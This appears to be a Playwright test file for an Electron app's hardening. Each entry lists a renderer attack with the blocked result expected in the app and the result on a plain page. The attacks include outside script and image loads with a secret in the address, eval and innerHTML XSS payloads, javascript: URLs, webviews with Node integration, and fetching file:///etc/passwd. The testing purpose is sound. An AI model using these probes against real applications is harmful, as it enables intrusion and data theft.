import type { Page } from '@playwright/test'

/**
 * One way in which a page that was taken over would try to get out, run in the page itself. It answers what became of it,
 * or throws: then the error's name is the answer.
 */
export type Attack = {
  /** The point of Electron's list (checklist-points.ts) that is to stop it. */
  readonly point: number
  readonly name: string
  readonly run: (outside: string) => unknown
  /** What an attacker gets from our windows. */
  readonly safe: string
  /** What the same gives on a plain page; left out where a test browser differs from a customer's. */
  readonly plain?: string
}

/** Runs with the attack in the page: what it needs of the DOM, written once. */
const PRELUDE = `
  const fate = (element, property, address) => new Promise((done) => {
    const end = (word) => { element.remove(); done(word) }
    document.addEventListener('securitypolicyviolation', (event) => end('policy'), { once: true })
    element.addEventListener('load', () => setTimeout(() => end('loaded'), 200))
    element.addEventListener('error', () => setTimeout(() => end('failed'), 200))
    setTimeout(() => end('nothing'), 3000)
    element[property] = address
    document.body.append(element)
  });
  const soon = (act, look) => new Promise((done, failed) => {
    document.addEventListener('securitypolicyviolation', () => done('policy'), { once: true })
    try { act() } catch (error) { return failed(error) }
    setTimeout(() => done(look() ? 'done' : 'nothing'), 400)
  });
  const limited = (promise) => Promise.race([
    Promise.resolve(promise).then(() => 'done'),
    new Promise((done) => setTimeout(() => done('waits'), 3000)),
  ]);
`
declare function fate(element: Element, property: string, address: string): Promise<string>
declare function soon(act: () => void, look: () => boolean): Promise<string>
declare function limited(promise: unknown): Promise<string>
/** What an attack leaves behind when it came through. */
declare const came: { through?: boolean }
type Devices = Record<
  'usb' | 'hid' | 'serial' | 'bluetooth',
  Record<string, (wish: object) => Promise<unknown>>
>

/** After a turn of the page's own loop: what the driver itself evaluates is not held to the page's policy. */
export async function attempt(page: Page, { run }: Attack, outside: string): Promise<string> {
  const script = `(async () => {
    window.came = {}
    await new Promise((turn) => setTimeout(turn))
    ${PRELUDE}
    try { return String(await (${run.toString()})(${JSON.stringify(outside)})) } catch (error) { return error.name }
  })()`
  return page.evaluate(script) as Promise<string>
}

const DENIED = 'NotAllowedError'

export const attacks: readonly Attack[] = [
  {
    point: 1,
    name: 'a script from elsewhere',
    run: (outside) => fate(document.createElement('script'), 'src', `${outside}/script.js`),
    safe: 'TypeError',
    plain: 'loaded',
  },
  {
    point: 1,
    name: 'a picture from elsewhere, with what it wants to tell in its address',
    run: (outside) => fate(document.createElement('img'), 'src', `${outside}/picture.svg?secret`),
    safe: 'policy',
    plain: 'loaded',
  },
  {
    point: 1,
    name: 'a style sheet from elsewhere',
    run: (outside) =>
      fate(
        Object.assign(document.createElement('link'), { rel: 'stylesheet' }),
        'href',
        `${outside}/style.css`,
      ),
    safe: 'policy',
    plain: 'loaded',
  },
  {
    point: 1,
    name: 'a WebSocket to elsewhere',
    run: (outside) =>
      new Promise((done) => {
        const socket = new WebSocket(outside.replace('http', 'ws'))
        socket.onerror = () => done('failed')
        socket.onopen = () => done('open')
      }),
    safe: 'failed',
  },
  {
    point: 2,
    name: 'what Node puts on its global object',
    run: () =>
      ['require', 'process', 'module', 'Buffer', 'global', '__dirname', 'setImmediate'].filter(
        (name) => name in window,
      ).length,
    safe: '0',
    plain: '0',
  },
  {
    point: 2,
    name: 'Node in a worker',
    run: () => limited(new Worker(URL.createObjectURL(new Blob(['postMessage(typeof require)'])))),
    safe: 'TypeError',
    plain: 'done',
  },
  {
    point: 3,
    name: 'another realm behind the bridge',
    run: () => {
      const bridge = (window as unknown as { sobani: Record<string, () => unknown> }).sobani
      const foreign = Object.values(bridge).filter((one) => one.constructor !== Function)
      return `${Object.isFrozen(bridge)} ${foreign.length}`
    },
    safe: 'true 0',
  },
  {
    point: 3,
    name: 'the bridge replaced, for whoever calls it next',
    run: () => {
      const before = (window as unknown as { sobani: object }).sobani
      Object.assign(before, { call: () => 'forged' })
      return 'replaced'
    },
    safe: 'TypeError',
  },
  {
    point: 5,
    name: 'camera',
    run: () => limited(navigator.mediaDevices.getUserMedia({ video: true })),
    safe: DENIED,
  },
  {
    point: 5,
    name: 'microphone',
    run: () => limited(navigator.mediaDevices.getUserMedia({ audio: true })),
    safe: DENIED,
  },
  {
    point: 5,
    name: 'the screen, once more than it was allowed',
    run: () => limited(navigator.mediaDevices.getDisplayMedia({ video: true })),
    safe: DENIED,
  },
  { point: 5, name: 'notifications', run: () => Notification.requestPermission(), safe: 'denied' },
  { point: 5, name: 'the clipboard, read', run: () => limited(navigator.clipboard.readText()), safe: DENIED },
  {
    point: 5,
    name: 'the clipboard, written',
    run: () => limited(navigator.clipboard.writeText('x')),
    safe: DENIED,
  },
  {
    point: 5,
    name: 'the place',
    run: () =>
      new Promise((done) =>
        navigator.geolocation.getCurrentPosition(
          () => done('found'),
          ({ code }) => done(`code ${code}`),
        ),
      ),
    safe: 'code 1',
  },
  {
    point: 5,
    name: 'any permission that is granted already',
    run: async () => {
      const names = ['camera', 'microphone', 'geolocation', 'notifications', 'clipboard-read', 'midi']
      const asked = await Promise.all(
        [...names, 'persistent-storage', 'idle-detection', 'local-fonts', 'window-management'].map((name) =>
          navigator.permissions.query({ name: name as PermissionName }).catch(() => null),
        ),
      )
      const known = asked.filter((one) => one !== null)
      return `${known.length >= 6} ${known.filter(({ state }) => state === 'granted').length}`
    },
    safe: 'true 0',
  },
  ...(['usb', 'hid', 'serial', 'bluetooth'] as const).map(
    (bus): Attack => ({
      point: 5,
      name: `a device by ${bus}`,
      // Written out by bus: the function goes to the page as text.
      run: {
        usb: () => limited((navigator as unknown as Devices).usb.requestDevice?.({ filters: [] })),
        hid: () =>
          (navigator as unknown as Devices).hid
            .requestDevice?.({ filters: [] })
            .then((devices) => `${(devices as unknown[]).length} devices`),
        serial: () => limited((navigator as unknown as Devices).serial.requestPort?.({})),
        // Where a system has none, there is nothing to ask for either.
        bluetooth: () =>
          'bluetooth' in navigator &&
          limited((navigator as unknown as Devices).bluetooth.requestDevice?.({ acceptAllDevices: true })),
      }[bus],
      safe: bus === 'hid' ? '0 devices' : bus === 'bluetooth' ? 'false' : 'NotFoundError',
    }),
  ),
  {
    point: 6,
    name: 'another origin, fetched',
    run: (outside) => limited(fetch(`${outside}/picture.svg`)),
    safe: 'TypeError',
  },
  {
    point: 6,
    name: 'another origin, in a frame',
    run: (outside) => fate(document.createElement('iframe'), 'src', `${outside}/page.html`),
    safe: 'policy',
    plain: 'loaded',
  },
  {
    point: 7,
    name: 'eval',
    // biome-ignore lint/security/noGlobalEval: this is the attack
    run: () => globalThis.eval('1 + 1'),
    safe: 'EvalError',
    plain: '2',
  },
  {
    point: 7,
    name: 'new Function',
    run: () => new Function('return 1 + 1')(),
    safe: 'EvalError',
    plain: '2',
  },
  {
    point: 7,
    name: 'a timer with a text',
    run: () =>
      soon(
        () => void setTimeout('window.came.through = true' as unknown as () => void),
        () => came.through === true,
      ),
    safe: 'TypeError',
    plain: 'done',
  },
  {
    point: 7,
    name: 'a script in the page',
    run: () =>
      soon(
        () => {
          const script = document.createElement('script')
          script.append('window.came.through = true')
          document.body.append(script)
          script.remove()
        },
        () => came.through === true,
      ),
    safe: 'TypeError',
    plain: 'done',
  },
  {
    point: 7,
    name: 'a handler in the markup',
    run: () =>
      soon(
        () => {
          const button = document.createElement('button')
          button.setAttribute('onclick', 'window.came.through = true')
          document.body.append(button)
          button.click()
          button.remove()
        },
        () => came.through === true,
      ),
    safe: 'TypeError',
    plain: 'done',
  },
  {
    point: 7,
    name: 'markup from a text',
    run: () => {
      const place = document.createElement('div')
      place.innerHTML = '<img src=x onerror="window.came.through = true">'
      return place.children.length
    },
    safe: 'TypeError',
    plain: '1',
  },
  {
    point: 7,
    name: 'a javascript: address',
    run: () =>
      soon(
        () => {
          const link = document.createElement('a')
          link.href = 'javascript:void(window.came.through = true)'
          document.body.append(link)
          link.click()
          link.remove()
        },
        () => came.through === true,
      ),
    safe: 'policy',
    plain: 'done',
  },
  {
    point: 7,
    name: 'a script that is its own address',
    run: () => import(`data:text/javascript,${'export const a = 1'}` as string),
    safe: 'TypeError',
  },
  {
    point: 7,
    name: 'a base of its own for every address',
    run: (outside) => {
      const base = document.createElement('base')
      base.href = `${outside}/`
      document.head.append(base)
      const moved = document.baseURI.startsWith(outside)
      base.remove()
      return moved ? 'moved' : 'kept'
    },
    safe: 'kept',
    plain: 'moved',
  },
  {
    point: 7,
    name: 'a service worker that outlives the page',
    run: () => limited(navigator.serviceWorker.register('/worker.js')),
    safe: 'TypeError',
  },
  {
    point: 11,
    name: 'a webview that may open windows',
    run: (outside) => {
      const view = document.createElement('webview')
      view.setAttribute('allowpopups', '')
      view.setAttribute('nodeintegration', '')
      view.setAttribute('webpreferences', 'contextIsolation=no')
      view.setAttribute('src', `${outside}/page.html`)
      document.body.append(view)
      const powers = ['getWebContentsId', 'executeJavaScript', 'loadURL'].filter((name) => name in view)
      return powers.length
    },
    safe: '0',
    plain: '0',
  },
  {
    point: 14,
    name: 'a window of its own',
    run: (outside) => (window.open(`${outside}/page.html`) === null ? 'none' : 'opened'),
    safe: 'none',
    plain: 'opened',
  },
  {
    point: 14,
    name: 'an empty window of its own',
    run: () => (window.open('about:blank') === null ? 'none' : 'opened'),
    safe: 'none',
    plain: 'opened',
  },
  {
    point: 14,
    name: 'whoever opened this one',
    run: () => String(window.opener),
    safe: 'null',
    plain: 'null',
  },
  {
    point: 17,
    name: 'the bridge in a frame that it makes',
    run: () => {
      const frame = document.createElement('iframe')
      document.body.append(frame)
      const found = frame.contentWindow !== null && 'sobani' in frame.contentWindow
      frame.remove()
      return found ? 'bridged' : 'bare'
    },
    safe: 'bare',
  },
  {
    point: 18,
    name: 'a file of this PC, fetched',
    run: () => limited(fetch('file:///etc/passwd')),
    safe: 'TypeError',
    plain: 'TypeError',
  },
  {
    point: 18,
    name: 'a file of this PC, in a frame',
    run: () => fate(document.createElement('iframe'), 'src', 'file:///etc/passwd'),
    // Chromium's own rule, before any policy: neither loaded nor reported.
    safe: 'nothing',
  },
  {
    point: 20,
    name: 'what stands on the window that no web page has',
    run: () => {
      const { sobani } = window as unknown as { sobani: object }
      const strange = ['ipcRenderer', 'electron', 'contextBridge', 'webFrame', 'desktopCapturer', 'shell']
      return [...Object.keys(sobani), ...strange.filter((name) => name in window)].join(' ')
    },
    safe: 'call on',
  },
]
